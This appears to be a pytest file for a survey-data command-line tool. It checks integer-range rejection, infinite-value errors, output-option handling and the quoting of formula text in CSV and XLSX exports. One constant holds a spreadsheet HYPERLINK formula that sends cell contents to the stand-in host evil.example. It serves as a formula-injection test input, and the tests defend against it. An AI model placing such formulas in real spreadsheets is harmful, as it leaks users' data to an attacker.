"""Response values that cannot be stored are rejected by row and column; exports hold no formulas;
the survey commands speak the shared option vocabulary (--out, format from the extension)."""

from __future__ import annotations

import pandas as pd
import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from patentreach.cli.main import app
from patentreach.survey.responses import import_responses
from patentreach.survey.synthetic import holder_answers, make_frame
from tests.conftest import shared_path

runner = CliRunner(env={"COLUMNS": "250"})
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture
def responses(tmp_path) -> pd.DataFrame:
    frame = make_frame(40, seed=7)
    frame.to_csv(tmp_path / "sample.csv", index=False)
    return holder_answers(frame, seed=7).astype(str).replace({"nan": "", "<NA>": "", "None": ""})


@pytest.mark.parametrize("value", ["9223372036854775808", "99999999999999999999", "-9223372036854775808"])
def test_an_integer_beyond_64_bits_rejects_its_row_naming_row_and_field_and_the_rest_is_imported(
        value, responses, tmp_path):
    responses.loc[2, "employees"] = value  # row 4 as a spreadsheet shows it
    path = tmp_path / "r.csv"
    responses.to_csv(path, index=False)
    result = import_responses(path, "holder")
    assert (result.rows_in, len(result.accepted), len(result.rejected)) == (40, 39, 1)
    [issue] = result.issues
    assert (issue.row, issue.column, issue.rule) == (4, "employees", "type")
    assert issue.message == f"{value!r} is outside the integer range (at most 9,223,372,036,854,775,807 in size)"
    cli = runner.invoke(app, ["survey", "import", str(path)])
    assert cli.exit_code == 0, cli.output
    assert (f"r.csv: row 4, column 'employees': type: {value!r} is outside the integer range"
            in " ".join(cli.output.split()))


def test_the_largest_64_bit_integer_is_kept_exactly(responses, tmp_path):
    responses.loc[0, "inv_patents_cn"] = "9223372036854775807"
    responses.loc[1, "inv_patents_cn"] = "9007199254740993"  # 2**53 + 1: a float would round it
    path = tmp_path / "r.csv"
    responses.to_csv(path, index=False)
    result = import_responses(path, "holder")
    assert len(result.rejected) == 0, [str(issue) for issue in result.issues]
    assert result.accepted["inv_patents_cn"].iloc[:2].tolist() == [9223372036854775807, 9007199254740993]


def test_formula_text_in_responses_is_quoted_in_the_rejects_and_issues_files(responses, tmp_path):
    responses.loc[0, "enterprise_id"] = HYPERLINK
    responses.loc[0, "employees"] = "=1+1"  # not an integer: the row is rejected with this value
    path = tmp_path / "r.csv"
    responses.to_csv(path, index=False)
    result = runner.invoke(app, ["survey", "import", str(path), "--rejects", str(tmp_path / "bad.csv")])
    assert result.exit_code == 0, result.output
    rejects = pd.read_csv(tmp_path / "bad.csv", dtype=str)
    assert rejects.loc[0, "enterprise_id"] == "'" + HYPERLINK
    assert rejects.loc[0, "employees"] == "'=1+1"
    issues = pd.read_csv(tmp_path / "bad.issues.csv", dtype=str).set_index("column")
    assert issues.loc["employees", "value"] == "'=1+1"


def test_formula_text_in_a_frame_is_quoted_in_the_sample_file(tmp_path):
    frame = make_frame(300, seed=2)
    frame["register_note"] = [HYPERLINK] + [""] * (len(frame) - 1)
    frame.to_csv(tmp_path / "frame.csv", index=False)
    out = tmp_path / "s.csv"
    result = runner.invoke(app, ["survey", "sample", str(tmp_path / "frame.csv"), "-n", "300", "-o", str(out)])
    assert result.exit_code == 0, result.output
    notes = pd.read_csv(out, dtype=str)["register_note"].dropna().tolist()
    assert notes == ["'" + HYPERLINK]


@pytest.fixture
def formula_data(tmp_path):
    data = pd.read_csv(shared_path("reference", "survey", "data", "apisrs.csv"), dtype={"cds": str})
    data["stype"] = data["stype"].replace({"E": HYPERLINK})
    path = tmp_path / "api.csv"
    data.to_csv(path, index=False)
    design = tmp_path / "srs.yaml"
    design.write_text("fpc: [fpc]\n", encoding="utf-8")
    return path, design


def test_formula_text_in_an_estimate_category_is_no_formula_in_xlsx_and_quoted_in_csv(formula_data, tmp_path):
    data, design = formula_data
    out = tmp_path / "est.xlsx"
    result = runner.invoke(app, ["survey", "estimate", str(data), "-d", str(design), "-s", "mean:stype",
                                 "-f", "csv", "--out", str(out)])
    assert result.exit_code == 0, result.output
    cells = [cell for row in load_workbook(out).active.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert "'" + HYPERLINK in [cell.value for cell in cells]
    categories = pd.read_csv(pd.io.common.StringIO(result.stdout))["category"].tolist()
    assert "'" + HYPERLINK in categories


def test_estimate_writes_with_out_and_the_hidden_output_alias_by_extension(formula_data, tmp_path):
    data, design = formula_data
    base = ["survey", "estimate", str(data), "-d", str(design), "-s", "mean:api00"]
    for option, name in (("--out", "a.json"), ("-o", "b.csv"), ("--output", "c.xlsx")):
        result = runner.invoke(app, [*base, option, str(tmp_path / name)])
        assert result.exit_code == 0, result.output
        assert (tmp_path / name).stat().st_size > 0
    help_text = runner.invoke(app, ["survey", "estimate", "--help"]).output
    assert "--out" in help_text and "--output" not in help_text


def test_estimate_refuses_an_out_extension_it_cannot_write_before_computing(formula_data, tmp_path):
    data, design = formula_data
    result = runner.invoke(app, ["survey", "estimate", str(data), "-d", str(design), "-s", "mean:api00",
                                 "--out", str(tmp_path / "est.pdf")])
    assert result.exit_code == 2
    assert f"error: --out {tmp_path / 'est.pdf'}: cannot tell the file format from '.pdf'; use one of .csv, " \
           ".xlsx, .json" in result.output
    assert not (tmp_path / "est.pdf").exists()


def test_an_unknown_format_or_method_names_the_choices_and_the_closest(formula_data, tmp_path):
    data, design = formula_data
    result = runner.invoke(app, ["survey", "estimate", str(data), "-d", str(design), "-s", "mean:api00",
                                 "-f", "jsno"])
    assert result.exit_code == 2
    assert "error: --format 'jsno' is not one of table, csv, json; did you mean 'json'?" in result.output
    result = runner.invoke(app, ["survey", "sample", str(data), "-n", "5", "-o", str(tmp_path / "s.csv"),
                                 "--method", "neymann"])
    assert result.exit_code == 2
    assert "error: --method 'neymann' is not one of proportional, neyman; did you mean 'neyman'?" in result.output


@pytest.mark.parametrize("stat", ["mean:api00", "total:api00", "ratio:api00/enroll", "ratio:enroll/api00",
                                  "prop:api00>500"])
@pytest.mark.parametrize("value", ["inf", "-Infinity", "1e400"])
def test_an_infinite_value_in_estimation_data_is_an_error_naming_file_column_and_row(stat, value, tmp_path):
    lines = shared_path("reference", "survey", "data", "apisrs.csv").read_text(encoding="utf-8").splitlines()
    header = lines[0].split(",")
    cells = lines[4].split(",")  # row 5 as a spreadsheet shows it
    cells[header.index('"api00"')] = value
    lines[4] = ",".join(cells)
    data = tmp_path / "api.csv"
    data.write_text("\n".join(lines) + "\n", encoding="utf-8")
    design = tmp_path / "srs.yaml"
    design.write_text("fpc: [fpc]\n", encoding="utf-8")
    result = runner.invoke(app, ["survey", "estimate", str(data), "-d", str(design), "-s", stat])
    assert result.exit_code == 2
    assert f"error: {data}: {stat}: column 'api00' has an infinite value in row 5" in result.output


def test_a_frame_count_beyond_exact_integers_is_named_by_row(tmp_path):
    frame = make_frame(50, seed=1).astype({"patents": object})
    frame.loc[2, "patents"] = "99999999999999999999"
    frame.to_csv(tmp_path / "frame.csv", index=False)
    result = runner.invoke(app, ["survey", "sample", str(tmp_path / "frame.csv"), "-n", "30", "-o",
                                 str(tmp_path / "s.csv")])
    assert result.exit_code == 2
    assert f"error: {tmp_path / 'frame.csv'}: patents must be at most 9,007,199,254,740,992 in rows 4" in result.output
